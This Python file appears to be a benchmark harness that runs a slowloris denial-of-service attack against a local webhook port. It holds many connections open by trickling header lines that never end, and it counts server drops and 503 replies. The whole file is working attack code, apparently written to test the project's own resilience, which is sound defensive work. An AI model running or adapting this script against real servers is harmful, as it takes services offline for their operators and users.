"""A slowloris against a webhook port, in a process of its own (webhook_slowloris.py runs it).

--connections connections, each sending a request line and then one header line every --cycle
seconds, never ending its headers. A connection the server closes (or answers: 503, 431) is
opened again after --cycle seconds, as slowloris.py does on each of its cycles (15 s there; the
shorter the cycle, the closer the attack comes to a connection flood). Prints `ready` once every
connection has been opened once (or after --ready-after seconds, when a server that stopped
accepting leaves some hanging), and on SIGTERM one JSON line of counts.

    PYTHONPATH=operator:. python -m benchmarks.slowloris_attack --port 9443 [--connections 1000]
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import resource
import signal
from dataclasses import asdict, dataclass, field

REQUEST_LINE = b"POST /hooks/github HTTP/1.1\r\nHost: operator\r\n"
HEADER_LINE = b"X-Slow: 1\r\n"


@dataclass
class Counts:
    opened: int = 0  # connections the attacker opened, over the whole run
    dropped: int = 0  # closed by the server (or reset)
    answered_503: int = 0
    connect_errors: int = 0
    open_now: int = 0
    peak_open: int = 0
    first_wave: int = field(default=0, repr=False)


class Attack:
    def __init__(self, port: int, connections: int, cycle: float, source: str) -> None:
        self.port, self.connections, self.cycle, self.source = port, connections, cycle, source
        self.counts = Counts()
        self.ready = asyncio.Event()

    async def hold(self) -> None:
        """One of the connections, for ever: open, trickle, and open again once dropped."""
        first = True
        while True:
            try:
                reader, writer = await asyncio.open_connection(
                    "127.0.0.1", self.port, local_addr=(self.source, 0)
                )
            except OSError:
                self.counts.connect_errors += 1
            else:
                self._opened(first)
                first = False
                await self._trickle(reader, writer)
            await asyncio.sleep(self.cycle)  # the attack's pace

    def _opened(self, first: bool) -> None:
        counts = self.counts
        counts.opened += 1
        counts.open_now += 1
        counts.peak_open = max(counts.peak_open, counts.open_now)
        if first:
            counts.first_wave += 1
            if counts.first_wave == self.connections:
                self.ready.set()

    async def _trickle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            writer.write(REQUEST_LINE)
            while True:
                try:  # asyncio.timeout: 3.11's wait_for may swallow a cancellation
                    async with asyncio.timeout(self.cycle):
                        answer = await reader.read(4096)
                except TimeoutError:
                    writer.write(HEADER_LINE)
                    await writer.drain()
                    continue
                if answer.startswith(b"HTTP/1.1 503"):
                    self.counts.answered_503 += 1
                return
        except ConnectionError:
            return
        finally:
            self.counts.open_now -= 1
            self.counts.dropped += 1
            writer.close()


async def run(args: argparse.Namespace) -> Counts:
    attack = Attack(args.port, args.connections, args.cycle, args.source)
    stop = asyncio.Event()
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, stop.set)
    tasks = [asyncio.create_task(attack.hold()) for _ in range(args.connections)]
    with contextlib.suppress(TimeoutError):
        await asyncio.wait_for(attack.ready.wait(), args.ready_after)
    print(f"ready {attack.counts.first_wave}", flush=True)
    await stop.wait()
    for task in tasks:
        task.cancel()
    await asyncio.wait(tasks, timeout=10)
    return attack.counts


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--connections", type=int, default=1000)
    parser.add_argument("--cycle", type=float, default=1.0, help="seconds (default 1)")
    parser.add_argument("--source", default="127.0.0.1", help="the attacker's address")
    parser.add_argument("--ready-after", type=float, default=15.0, help="seconds at most")
    args = parser.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = min(hard, args.connections * 2 + 256)
    if soft < wanted:
        resource.setrlimit(resource.RLIMIT_NOFILE, (wanted, hard))
    counts = asyncio.run(run(args))
    print(json.dumps({k: v for k, v in asdict(counts).items() if k != "first_wave"}), flush=True)


if __name__ == "__main__":
    main()
